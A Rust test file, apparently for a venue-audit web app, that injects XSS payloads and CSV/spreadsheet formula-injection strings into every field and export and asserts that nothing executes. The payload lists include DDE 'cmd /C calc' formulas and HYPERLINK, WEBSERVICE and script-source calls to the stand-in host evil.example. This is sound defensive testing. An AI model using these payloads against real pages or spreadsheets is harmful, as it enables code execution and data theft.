//! P18: what people write is shown, and never runs: in no page, in no download.

use domain::{
    assignment::Scenario,
    checklist::Answer as Given,
    evidence::{EvidenceKind, EvidenceSource},
    ids::{AssignmentId, ChecklistVersionId, VenueId, VisitId},
    op::{
        Payload, Verdict,
        payload::{AssignmentDecline, ChecklistPublish, VenueImport},
    },
    role::Role,
    text::Text,
};
use protocol::session::SignIn;
use store::Front;

use crate::{
    company::{Company, Named, PASSWORD, Person, uuid},
    desk::Desk,
    extent::{progress, report, seed, times},
    house::House,
    isolation::let_in,
    page::Page,
    phone::{Phone, photo, sign_in, verdicts},
};

/// What breaks out of text, attribute, address, comment, script or style.
fn hostile() -> Vec<String> {
    let cores = [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><script>alert&#40;1)</script>",
        "<body onload=alert(1)>",
        "<iframe srcdoc='<script>alert(1)</script>'>",
        "<iframe src=javascript:alert(1)>",
        "<object data=data:text/html,<script>alert(1)</script>>",
        "<embed src=//evil.example/x>",
        "<a href=javascript:alert(1)>x</a>",
        "<a href='java\tscript:alert(1)'>x</a>",
        "<form action=//evil.example><button>x</button></form>",
        "<button formaction=javascript:alert(1)>x",
        "<input autofocus onfocus=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<video><source onerror=alert(1)>",
        "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<base href=//evil.example/>",
        "<link rel=import href=//evil.example>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<style>@import '//evil.example'</style>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<template><script>alert(1)</script></template>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<![CDATA[><script>alert(1)</script>]]>",
        "<x onclick=alert(1) tabindex=0>",
        "javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "{{constructor.constructor('alert(1)')()}}",
        "${alert(1)}",
        "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#x3c;script&#x3e;alert(1)",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "\u{2028}alert(1)\u{2029}",
        "＜script＞alert(1)＜/script＞",
        "<scr\u{200b}ipt>alert(1)</scr\u{200b}ipt>",
        "<ScRiPt sRc=//evil.example></sCrIpT>",
        "<marquee onstart=alert(1)>",
        "\u{202e}<script>alert(1)</script>",
    ];
    let wraps = ["{}", "\">{}", "'>{}", "</script>{}", "\";{}//", "--></title></textarea></style>{}"];
    let mut all: Vec<String> =
        cores.iter().flat_map(|core| wraps.iter().map(move |wrap| wrap.replace("{}", core))).collect();
    // Told apart by a mark of their own, so that each can be found again.
    for (n, text) in all.iter_mut().enumerate() {
        *text = format!("{text}·{n}·");
    }
    all
}

/// What a program for tables takes for something to work out.
fn formulas() -> Vec<String> {
    let cores = [
        "1+1",
        "cmd|' /C calc'!A0",
        "HYPERLINK(\"http://evil.example?x=\"&A1,\"看\")",
        "WEBSERVICE(\"http://evil.example\")",
        "IMPORTXML(\"http://evil.example\",\"//a\")",
        "SUM(A1:A9)",
        "DDE(\"cmd\";\"/C calc\";\"x\")",
        "2+5+cmd|' /C calc'!A0",
        "IMAGE(\"http://evil.example/x.png\")",
    ];
    let leads = ["=", "+", "-", "@", "＝", " =", "\u{a0}=", "\u{feff}="];
    let mut all: Vec<String> =
        leads.iter().flat_map(|lead| cores.iter().map(move |core| format!("{lead}{core}"))).collect();
    all.extend(["\t=1+1", "\r=1+1", "\n=1+1", "\"=1+1", ",=1+1", ";=1+1"].map(ToOwned::to_owned));
    for (n, text) in all.iter_mut().enumerate() {
        *text = format!("{text}·f{n}·");
    }
    all
}

/// How long a login or name may be, characters.
const NAME_MAX: usize = 60;

struct Scene {
    house: House,
    company: Company,
    visitor: Person,
    phone: Phone,
    desk: Desk,
    /// What was written where each of them must be found again.
    visits: Vec<(VisitId, String)>,
}

impl Scene {
    async fn new() -> Self {
        let house = House::new().await;
        let company = Company::new(&house).await;
        let visitor = company.person(&house, &[Role::Visitor]).await;
        let all = company.person(&house, &[Role::Admin, Role::Office, Role::Reviewer, Role::Auditor]).await;
        let desk = Desk { cookie: let_in(&house, &company, &all, Front::Hq).await };
        let phone = Phone::bearer(&house, &company, &visitor).await;
        Self { house, company, visitor, phone, desk, visits: Vec::new() }
    }

    /// Writes `text` into everything that a phone or HQ can write, once.
    async fn write(&mut self, n: usize, text: &str) {
        let Self { house, company, visitor, phone, desk, visits } = self;
        let scenario = Scenario { persona: Text::new(text, text), questions: Vec::new() };
        let task = company.task_with(house, visitor, Some(scenario), vec![Text::new(text, text)]).await;
        let mut document = company.document(house, task);
        document.impressions.overall = text.to_owned();
        document.impressions.good = text.to_owned();
        document.impressions.suggestion = text.to_owned();
        for answer in document.answers.values_mut() {
            answer.note = text.to_owned();
        }
        if let Some(item) = company.hall().items().find(|item| item.na) {
            document.answers.insert(item.id, Given { note: text.to_owned(), ..Given::not_applicable(text) });
        }
        let mut picture = photo(house, 0, text.as_bytes());
        picture.caption = text.to_owned();
        let mut ticket = photo(house, 1, b"");
        (ticket.kind, ticket.source, ticket.bytes) = (EvidenceKind::Ticket, EvidenceSource::Keyboard, None);
        ticket.text = text.to_owned();
        document.evidence = vec![picture, ticket];
        phone.visit(house, task, document).await;
        let visit = VisitId::of(task);
        visits.push((visit, text.to_owned()));
        let (op, visit) = (uuid().to_string(), visit.to_string());
        let decided = if n.is_multiple_of(2) {
            let fields = [("op_id", op.as_str()), ("base", "3"), ("visit", &visit), ("items[0][reason]", text)];
            desk.post(house, "/hq/act/visit/return", &fields).await
        } else {
            let fields = [("op_id", op.as_str()), ("base", "3"), ("visit", &visit), ("reason", text)];
            desk.post(house, "/hq/act/visit/void", &fields).await
        };
        assert!(decided.status < 400, "{} {:.200}", decided.status, decided.text());
        self.write_more(n, text).await;
    }

    async fn write_more(&mut self, n: usize, text: &str) {
        let Self { house, company, visitor, phone, desk, .. } = self;
        // A task that is declined, and one that is called back.
        let task = company.task(house, visitor).await;
        let op =
            phone.cut(task, 0, Payload::AssignmentDecline(AssignmentDecline { tie: false, reason: text.to_owned() }));
        assert_eq!(verdicts(&phone.push(house, &[op]).await), [Verdict::Applied]);
        let task = company.task(house, visitor).await.to_string();
        let op = uuid().to_string();
        desk.post(house, "/hq/act/tasks/recall", &[("op_id", &op), ("task", &task), ("reason", text)]).await;
        // Somebody, and their browser.
        let name: String = text.chars().filter(|c| !c.is_control()).take(NAME_MAX).collect();
        let login: String = format!("{n}{}", name.chars().take(NAME_MAX - 8).collect::<String>());
        let (op, who) = (uuid().to_string(), login.trim().to_owned());
        let fields =
            [("op_id", op.as_str()), ("login", &who), ("name", &name), ("roles[0]", "visitor"), ("password", PASSWORD)];
        let made = desk.post(house, "/hq/act/people/create", &fields).await;
        assert!(made.status < 400, "{} {:.300} {login}", made.status, made.text());
        let agent: String = text.chars().filter(|c| !c.is_control()).collect();
        let with = SignIn { bearer: true, ..sign_in(company, &visitor.login, PASSWORD) };
        if n.is_multiple_of(20) {
            Phone::sign_in_with(house, with, &agent).await;
        }
        // A hall of that name, and a list of questions.
        let mut venue = company.venues[0].clone();
        (venue.id, venue.code) = (VenueId(uuid()), format!("{n}{text:.20}"));
        (venue.name, venue.address, venue.hours) = (Text::new(text, text), text.to_owned(), text.to_owned());
        company.command(house, Payload::VenueImport(VenueImport { venues: vec![venue] })).await;
        if n.is_multiple_of(25) {
            let mut version = company.hall().clone();
            (version.id, version.number) = (ChecklistVersionId(uuid()), 100 + n as u32);
            (version.title, version.how) = (Text::new(text, text), Text::new(text, text));
            for section in &mut version.sections {
                section.title = Text::new(text, text);
                for item in &mut section.items {
                    (item.criterion, item.gloss) = (Text::new(text, text), Some(Text::new(text, text)));
                    item.basis = vec![text.to_owned()];
                }
            }
            company.command(house, Payload::ChecklistPublish(ChecklistPublish { version })).await;
        }
    }

    /// Every page of HQ, and one of each thing.
    fn pages(&self) -> Vec<String> {
        let mut pages: Vec<String> =
            hq::paths::PAGES.iter().filter(|path| !path.contains(':')).map(|path| (*path).to_owned()).collect();
        pages.extend(["?state=returned", "?state=voided"].map(|query| format!("{}{query}", hq::paths::VISITS)));
        pages.extend(["?state=confirmed", "?state=proposed"].map(|query| format!("{}{query}", hq::paths::FINDINGS)));
        pages
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn no_text_runs_in_any_page_or_download() {
    let mut scene = Scene::new().await;
    seed("texts");
    let (hostile, formulas) = (hostile(), formulas());
    assert!(hostile.len() >= 200 && formulas.len() >= 50, "{} {}", hostile.len(), formulas.len());
    // Every so many of them in CI, and all of them in full.
    let every = times(9, 1);
    let mut texts: Vec<String> = hostile.into_iter().step_by(every).collect();
    texts.extend(formulas.into_iter().step_by(times(5, 1)));
    let (mut pages, mut found) = (0, 0);
    for (n, text) in texts.iter().enumerate() {
        progress("texts", n, texts.len());
        scene.write(n, text).await;
        let (visit, _) = scene.visits.last().cloned().expect("a visit");
        for path in [format!("/hq/visits/{visit}"), format!("/hq/visits/{visit}/void")] {
            let html = scene.desk.get(&scene.house, &path).await.expect(200).text();
            let page = Page::read(&html);
            assert_eq!(page.runs, Vec::<String>::new(), "{path} with {text}");
            pages += 1;
            // It is there, as words.
            found += usize::from(page.words.contains(text.trim()));
        }
        // What an address says is text, too.
        let query: String = form_urlencoded::Serializer::new(String::new())
            .append_pair("q", text)
            .append_pair("topic", text)
            .append_pair("older", text)
            .append_pair("to", text)
            .append_pair("kind", text)
            .append_pair("__path", "/hq/act/visit/accept")
            .append_pair("__err", text)
            .finish();
        for path in ["/hq/visits", "/hq/sign-in", "/hq/tasks/new", "/hq/findings"] {
            let html = scene.desk.get(&scene.house, &format!("{path}?{query}")).await.text();
            assert_eq!(Page::read(&html).runs, Vec::<String>::new(), "{path} asked with {text}");
            pages += 1;
        }
    }
    assert!(found >= texts.len(), "the texts are shown on the pages of their visits: {found} of {}", texts.len());
    // A finding with what HQ wrote about it, in the lists.
    for lang in ["zh-CN", "en"] {
        for path in scene.pages() {
            let ask = scene.desk.ask(crate::web::Ask::get(&path)).header("accept-language", lang);
            let html = scene.house.ask(ask).await.text();
            let page = Page::read(&html);
            assert_eq!(page.runs, Vec::<String>::new(), "{path}");
            pages += 1;
        }
    }
    let mut cells = 0;
    for path in [hq::paths::VISITS_CSV, hq::paths::ANSWERS_CSV, hq::paths::FINDINGS_CSV] {
        let csv = scene.desk.get(&scene.house, path).await.expect(200).text();
        let rows = rows(csv.trim_start_matches('\u{feff}'));
        assert!(rows.len() > texts.len().min(10), "{path}: {} rows", rows.len());
        for row in &rows {
            assert_eq!(row.len(), rows[0].len(), "{path}: {row:?}");
            for cell in row {
                cells += 1;
                let first = cell.trim_start_matches(|c: char| c.is_whitespace() || c == '\u{feff}').chars().next();
                assert!(!first.is_some_and(|c| "=+-@＝＋－＠".contains(c)), "{path}: {cell:?} would be worked out");
            }
        }
    }
    let figures = serde_json::json!({ "texts": texts.len(), "pages": pages, "cells": cells, "ran": 0 });
    report("P18", &figures);
}

/// The texts of a company's own lists, which come from imported files, on every page and in every download.
#[tokio::test(flavor = "multi_thread")]
async fn no_name_of_an_imported_list_runs() {
    let house = House::new().await;
    // Those that end a title are always among them: a visit's page is called by its venue's name, and a title is written
    // into the page by other code than its words. It was written as it is.
    let (ends_title, others): (Vec<String>, Vec<String>) =
        hostile().into_iter().partition(|text| text.to_lowercase().contains("</title"));
    assert!(!ends_title.is_empty());
    let few = others.into_iter().step_by(times(40, 3)).chain(formulas().into_iter().step_by(times(20, 2)));
    let all: Vec<String> = ends_title.into_iter().chain(few).collect();
    for text in &all {
        let own = || text.clone();
        let named = Named { company: own(), unit: own(), venue: own(), address: own(), hours: own() };
        let company = Company::named(&house, &named).await;
        let visitor = company.person_named(&house, &format!("v{}", uuid().simple()), text, &[Role::Visitor]).await;
        let all = company
            .person_named(&house, &format!("r{}", uuid().simple()), text, &[Role::Admin, Role::Office, Role::Reviewer])
            .await;
        let mut phone = Phone::bearer(&house, &company, &visitor).await;
        let task: AssignmentId = company.task(&house, &visitor).await;
        phone.visit(&house, task, company.document(&house, task)).await;
        let desk = Desk { cookie: let_in(&house, &company, &all, Front::Hq).await };
        let visit = VisitId::of(task);
        let pages = hq::paths::PAGES.iter().map(|path| path.replace(":id", &visit.to_string()));
        for path in pages {
            let page = Page::read(&desk.get(&house, &path).await.text());
            assert_eq!(page.runs, Vec::<String>::new(), "{path} with {text}");
        }
        for path in [hq::paths::VISITS_CSV, hq::paths::ANSWERS_CSV, hq::paths::FINDINGS_CSV] {
            let csv = desk.get(&house, path).await.expect(200).text();
            for cell in rows(csv.trim_start_matches('\u{feff}')).into_iter().flatten() {
                let first = cell.trim_start_matches(|c: char| c.is_whitespace() || c == '\u{feff}').chars().next();
                assert!(!first.is_some_and(|c| "=+-@＝＋－＠".contains(c)), "{path}: {cell:?} would be worked out");
            }
        }
    }
}

/// A table as a program reads it.
pub(crate) fn rows(csv: &str) -> Vec<Vec<String>> {
    let (mut rows, mut row, mut cell) = (Vec::new(), Vec::new(), String::new());
    let mut quoted = false;
    let mut chars = csv.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '"' if quoted && chars.peek() == Some(&'"') => cell.push(chars.next().unwrap_or('"')),
            '"' => quoted = !quoted,
            ',' if !quoted => row.push(std::mem::take(&mut cell)),
            '\n' if !quoted => {
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            '\r' if !quoted && chars.peek() == Some(&'\n') => {}
            c => cell.push(c),
        }
    }
    rows
}
